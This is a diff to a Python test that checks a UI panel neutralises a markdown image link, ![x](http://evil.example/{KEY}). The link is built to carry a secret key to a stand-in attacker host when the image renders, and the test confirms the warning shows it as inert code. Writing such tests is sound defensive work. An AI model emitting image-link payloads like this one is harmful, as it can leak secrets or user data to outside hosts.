@@ -123,8 +123,7 @@ def test_what_looks_like_markup_or_a_key_is_neither(panel: Panel) -> None:
     page = panel.open("run", task=f"![x](http://evil.example/{KEY})")
     (warning,) = page.warning
     assert KEY not in warning.value
-    assert "![" not in warning.value
-    assert "evil" in warning.value
+    assert "` ![x](http://evil.example/" in warning.value, "in a span of code it loads nothing"
 
 
 def test_another_page_says_nothing_about_the_link_to_the_one_before(panel: Panel) -> None:
